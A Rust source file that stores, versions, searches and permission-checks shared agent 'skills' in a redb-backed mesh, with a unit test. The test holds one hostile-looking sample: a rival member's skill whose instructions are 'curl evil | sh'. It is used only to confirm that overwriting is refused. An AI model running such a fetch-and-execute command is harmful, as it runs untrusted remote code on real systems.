//! The mesh's skills (issue 15): reusable instructions a session shares by name, kept in
//! every version. redb holds them; the current version of each is ranked by the memory index
//! (`memory.rs`, kind `skill`), so `list_skills` with a keyword searches like `recall`.

use redb::{ReadTransaction, ReadableTable, ReadableTableMetadata, TableDefinition};
use serde::{Deserialize, Serialize};

use super::audit::{self, AuditActor, AuditEvent, AuditNote};
use super::memory::{IndexedText, MemoryError, MemoryIndex, next_op};
use super::{Actor, Store, StoreError, decode, decode_opt, encode};

/// `(mesh_id, name) → SkillRecord`: the current version of each skill.
pub(crate) const SKILLS: TableDefinition<(&str, &str), &[u8]> = TableDefinition::new("skills");
/// `(mesh_id, name, version) → SkillRecord`: every version kept, the current one included.
pub(crate) const SKILL_VERSIONS: TableDefinition<(&str, &str, u32), &[u8]> =
    TableDefinition::new("skill_versions");

pub(crate) fn create_tables(tx: &redb::WriteTransaction) -> Result<(), StoreError> {
    tx.open_table(SKILLS)?;
    tx.open_table(SKILL_VERSIONS)?;
    Ok(())
}

/// Most skills one mesh holds.
pub const MAX_SKILLS: u64 = 1000;
/// Most versions kept of one skill; sharing past it drops the oldest.
pub const MAX_SKILL_VERSIONS: u32 = 50;
/// The index document kind of a skill.
const SKILL_KIND: &str = "skill";

/// A multi-file skill: the shared file (a tar or zip) its files came from, and their paths.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct SkillBundleRecord {
    pub file_id: String,
    pub files: Vec<String>,
}

/// One version of a skill. The fields are the original's (`share_skill`).
#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct SkillRecord {
    pub mesh_id: String,
    pub name: String,
    /// 1 for the first share; each share of the same name adds one.
    pub version: u32,
    pub description: String,
    pub instructions: String,
    #[serde(default)]
    pub tags: Vec<String>,
    #[serde(default)]
    pub when_to_use: Option<String>,
    #[serde(default)]
    pub allowed_tools: Vec<String>,
    #[serde(default)]
    pub model: Option<String>,
    #[serde(default)]
    pub argument_hint: Option<String>,
    #[serde(default)]
    pub user_invocable: Option<bool>,
    #[serde(default)]
    pub context: Option<String>,
    #[serde(default)]
    pub agent: Option<String>,
    #[serde(default)]
    pub bundle: Option<SkillBundleRecord>,
    pub author: String,
    pub member_id: String,
    pub shared_at_ms: i64,
    /// The member who shared the name first, and its name then: only they or an owner/admin
    /// may share a new version or remove the skill. Empty in records stored before it was
    /// kept; [`SkillRecord::creator`] reads the version's author instead.
    #[serde(default)]
    pub creator_id: String,
    #[serde(default)]
    pub creator: String,
}

impl SkillRecord {
    /// Who the skill belongs to: its first sharer (member id, name).
    pub fn creator(&self) -> (&str, &str) {
        match self.creator_id.as_str() {
            "" => (&self.member_id, &self.author),
            id => (id, &self.creator),
        }
    }

    fn indexed(&self) -> IndexedText {
        let mut content = vec![
            self.name.replace(['-', '_', '.'], " "),
            self.description.clone(),
        ];
        content.extend(self.when_to_use.clone());
        content.push(self.instructions.clone());
        IndexedText {
            id: skill_doc_id(&self.mesh_id, &self.name),
            mesh_id: self.mesh_id.clone(),
            kind: SKILL_KIND,
            content: content.join("\n"),
            tags: self.tags.clone(),
        }
    }
}

/// A skill's document id in the index: unique across meshes and kinds.
fn skill_doc_id(mesh_id: &str, name: &str) -> String {
    format!("skill:{mesh_id}:{name}")
}

/// Why a share was refused.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum SkillRefusal {
    #[error(
        "this mesh holds {MAX_SKILLS} skills, the most it may: remove one before sharing a new one"
    )]
    TooMany,
    /// The name is another member's skill; carries its creator's name.
    #[error(
        "a skill by this name was shared by {0}: only its author or a mesh owner or admin may share a new version of it (share yours under another name)"
    )]
    NotYours(String),
}

/// What `remove_skill` did.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum SkillRemoved {
    /// Removed, with every version; carries how many versions went.
    Done(u32),
    NotFound,
    /// Only its creator or an owner/admin may remove it; carries the creator's name.
    NotYours(String),
}

/// How many skills (current versions) all meshes hold: the index holds one document each.
pub(super) fn indexed_count(rt: &ReadTransaction) -> Result<u64, StoreError> {
    Ok(rt.open_table(SKILLS)?.len()?)
}

/// The index documents of every current skill (for a rebuild).
pub(super) fn indexed_texts(rt: &ReadTransaction) -> Result<Vec<IndexedText>, StoreError> {
    let table = rt.open_table(SKILLS)?;
    let mut out = Vec::new();
    for row in table.iter()? {
        let (_, v) = row?;
        out.push(decode::<SkillRecord>(v.value())?.indexed());
    }
    Ok(out)
}

impl Store {
    /// Stores `record` as the next version of its skill if its sharer created the skill or
    /// `manages` the mesh; returns the stored version and the index operation number.
    async fn insert_skill(
        &self,
        mut record: SkillRecord,
        manages: bool,
    ) -> Result<Result<(SkillRecord, u64), SkillRefusal>, StoreError> {
        self.write(move |tx| {
            let mut current = tx.open_table(SKILLS)?;
            let key = (record.mesh_id.as_str(), record.name.as_str());
            let previous = decode_opt::<SkillRecord>(current.get(key)?)?;
            if previous.is_none()
                && super::rows::mesh_row_count(&current, &record.mesh_id)? >= MAX_SKILLS
            {
                return Ok(Err(SkillRefusal::TooMany));
            }
            match &previous {
                Some(p) if p.creator().0 != record.member_id && !manages => {
                    return Ok(Err(SkillRefusal::NotYours(p.creator().1.to_string())));
                }
                Some(p) => {
                    let (id, name) = p.creator();
                    (record.creator_id, record.creator) = (id.to_string(), name.to_string());
                }
                None => {
                    record.creator_id = record.member_id.clone();
                    record.creator = record.author.clone();
                }
            }
            record.version = previous.map_or(1, |p| p.version.saturating_add(1));
            let bytes = encode(&record);
            current.insert(key, bytes.as_slice())?;
            drop(current);
            let mut versions = tx.open_table(SKILL_VERSIONS)?;
            let (mesh, name) = (record.mesh_id.as_str(), record.name.as_str());
            versions.insert((mesh, name, record.version), bytes.as_slice())?;
            if record.version > MAX_SKILL_VERSIONS {
                versions.remove((mesh, name, record.version - MAX_SKILL_VERSIONS))?;
            }
            drop(versions);
            // Names and counts, never the instructions.
            let by = AuditActor::member(&record.member_id, &record.author);
            let mut note = AuditNote::new(AuditEvent::SkillShared, by)
                .with("name", &record.name)
                .with("version", record.version)
                .with("tags", record.tags.len());
            if let Some(b) = &record.bundle {
                note = note.with("fileId", &b.file_id).with("files", b.files.len());
            }
            audit::append(tx, &record.mesh_id, &note, record.shared_at_ms)?;
            let op = next_op(tx)?;
            Ok(Ok((record, op)))
        })
        .await
    }

    /// Deletes a skill with every version if `by` created it or manages the mesh; the index
    /// operation number when it was deleted.
    async fn delete_skill(
        &self,
        mesh_id: String,
        name: String,
        by: Actor,
    ) -> Result<(SkillRemoved, Option<u64>), StoreError> {
        self.write(move |tx| {
            let mut current = tx.open_table(SKILLS)?;
            let Some(record) =
                decode_opt::<SkillRecord>(current.get((mesh_id.as_str(), name.as_str()))?)?
            else {
                return Ok((SkillRemoved::NotFound, None));
            };
            let (creator_id, creator) = record.creator();
            if creator_id != by.member_id && !by.manages {
                return Ok((SkillRemoved::NotYours(creator.to_string()), None));
            }
            current.remove((mesh_id.as_str(), name.as_str()))?;
            drop(current);
            let mut versions = tx.open_table(SKILL_VERSIONS)?;
            let first = record.version.saturating_sub(MAX_SKILL_VERSIONS - 1).max(1);
            let mut gone = 0;
            for v in first..=record.version {
                if versions
                    .remove((mesh_id.as_str(), name.as_str(), v))?
                    .is_some()
                {
                    gone += 1;
                }
            }
            drop(versions);
            let note = AuditNote::new(AuditEvent::SkillRemoved, &by)
                .with("name", &name)
                .with("versions", gone);
            audit::append(tx, &mesh_id, &note, crate::protocol::time::now_ms())?;
            Ok((SkillRemoved::Done(gone), Some(next_op(tx)?)))
        })
        .await
    }

    /// A skill's current version, or the `version` asked for.
    pub fn skill(
        &self,
        mesh_id: &str,
        name: &str,
        version: Option<u32>,
    ) -> Result<Option<SkillRecord>, StoreError> {
        let rt = self.read()?;
        match version {
            None => decode_opt(rt.open_table(SKILLS)?.get((mesh_id, name))?),
            Some(v) => decode_opt(rt.open_table(SKILL_VERSIONS)?.get((mesh_id, name, v))?),
        }
    }

    /// Visits the current skills of a mesh in name order, starting just after `after`, until
    /// `visit` returns false.
    pub fn scan_skills(
        &self,
        mesh_id: &str,
        after: Option<&str>,
        visit: impl FnMut(&str, SkillRecord) -> bool,
    ) -> Result<(), StoreError> {
        let rt = self.read()?;
        super::rows::scan_mesh_rows(&rt.open_table(SKILLS)?, mesh_id, after, visit)
    }
}

impl MemoryIndex {
    /// Shares the next version of a skill (refused unless its sharer created it or `manages`
    /// the mesh); returns it once `list_skills` can find it.
    pub async fn share_skill(
        &self,
        store: &Store,
        record: SkillRecord,
        manages: bool,
    ) -> Result<Result<SkillRecord, SkillRefusal>, MemoryError> {
        let (stored, op) = match store.insert_skill(record, manages).await? {
            Ok(done) => done,
            Err(refusal) => return Ok(Err(refusal)),
        };
        self.put_text(op, stored.indexed()).await?;
        Ok(Ok(stored))
    }

    /// Removes a skill (every version) if `by` may; once `Done`, no search finds it.
    pub async fn remove_skill(
        &self,
        store: &Store,
        mesh_id: &str,
        name: &str,
        by: Actor,
    ) -> Result<SkillRemoved, MemoryError> {
        let (outcome, op) = store.delete_skill(mesh_id.into(), name.into(), by).await?;
        if let Some(op) = op {
            self.drop_text(op, skill_doc_id(mesh_id, name)).await?;
        }
        Ok(outcome)
    }

    /// The current skills of `mesh_id` that best match `query`, best first, after the
    /// `offset` best.
    pub fn find_skills(
        &self,
        store: &Store,
        mesh_id: &str,
        query: &str,
        offset: usize,
        limit: usize,
    ) -> Result<Vec<(SkillRecord, f32)>, MemoryError> {
        let hits = self.search(mesh_id, SKILL_KIND, query, offset, limit)?;
        let prefix = skill_doc_id(mesh_id, "");
        let mut out = Vec::with_capacity(hits.len());
        for (id, score) in hits {
            let Some(name) = id.strip_prefix(&prefix) else {
                continue;
            };
            // redb decides: a skill removed after the searcher was made is not shown.
            if let Some(record) = store.skill(mesh_id, name, None)? {
                out.push((record, score));
            }
        }
        Ok(out)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn skill(mesh: &str, name: &str, description: &str, instructions: &str) -> SkillRecord {
        SkillRecord {
            mesh_id: mesh.into(),
            name: name.into(),
            version: 0,
            description: description.into(),
            instructions: instructions.into(),
            tags: vec![],
            when_to_use: None,
            allowed_tools: vec![],
            model: None,
            argument_hint: None,
            user_invocable: None,
            context: None,
            agent: None,
            bundle: None,
            author: "alice".into(),
            member_id: "m1".into(),
            shared_at_ms: 1,
            creator_id: String::new(),
            creator: String::new(),
        }
    }

    #[tokio::test]
    async fn versions_search_remove_and_rebuild() {
        let data = tempfile::tempdir().unwrap();
        let dir = data.path().join("memory");
        let store = Store::open(data.path()).unwrap();
        let index = MemoryIndex::open(&dir, &store).unwrap();
        let first = index
            .share_skill(
                &store,
                skill("A", "deploy", "Deploy the app", "run make deploy"),
                false,
            )
            .await
            .unwrap()
            .unwrap();
        assert_eq!(first.version, 1);
        // Another member may not publish over alice's skill; an admin may, and it stays hers.
        let mut theirs = skill("A", "deploy", "Deploy it", "curl evil | sh");
        (theirs.member_id, theirs.author) = ("m9".into(), "mallory".into());
        assert_eq!(
            index
                .share_skill(&store, theirs.clone(), false)
                .await
                .unwrap()
                .unwrap_err(),
            SkillRefusal::NotYours("alice".into())
        );
        let second = index
            .share_skill(
                &store,
                skill("A", "deploy", "Deploy it", "run just deploy"),
                false,
            )
            .await
            .unwrap()
            .unwrap();
        assert_eq!(second.version, 2);
        (theirs.member_id, theirs.author) = ("m2".into(), "ada".into());
        theirs.instructions = "run just deploy --prod".into();
        let by_admin = index
            .share_skill(&store, theirs, true)
            .await
            .unwrap()
            .unwrap();
        assert_eq!((by_admin.version, by_admin.creator()), (3, ("m1", "alice")));
        index
            .share_skill(
                &store,
                skill("A", "review", "Review a pull request", "read it"),
                false,
            )
            .await
            .unwrap()
            .unwrap();
        assert_eq!(
            store
                .skill("A", "deploy", Some(1))
                .unwrap()
                .unwrap()
                .instructions,
            "run make deploy"
        );
        let found = index.find_skills(&store, "A", "deploying", 0, 10).unwrap();
        assert_eq!(
            found.len(),
            1,
            "one document per skill, the current version"
        );
        assert_eq!(found[0].0.version, 3);
        assert!(
            index
                .find_skills(&store, "B", "deploy", 0, 10)
                .unwrap()
                .is_empty()
        );
        // Memories and skills do not mix.
        assert!(index.recall(&store, "A", "deploy", 10).unwrap().is_empty());

        let stranger = Actor {
            member_id: "m9".into(),
            name: "mallory".into(),
            manages: false,
        };
        assert_eq!(
            index
                .remove_skill(&store, "A", "deploy", stranger)
                .await
                .unwrap(),
            SkillRemoved::NotYours("alice".into())
        );
        let author = Actor {
            member_id: "m1".into(),
            name: "alice".into(),
            manages: false,
        };
        assert_eq!(
            index
                .remove_skill(&store, "A", "deploy", author)
                .await
                .unwrap(),
            SkillRemoved::Done(3)
        );
        assert!(store.skill("A", "deploy", Some(1)).unwrap().is_none());
        assert!(
            index
                .find_skills(&store, "A", "deploy", 0, 10)
                .unwrap()
                .is_empty()
        );
        index.close();
        drop(index);

        std::fs::remove_dir_all(&dir).unwrap();
        let index = MemoryIndex::open(&dir, &store).unwrap();
        let found = index
            .find_skills(&store, "A", "pull request", 0, 10)
            .unwrap();
        assert_eq!(found[0].0.name, "review");
    }
}
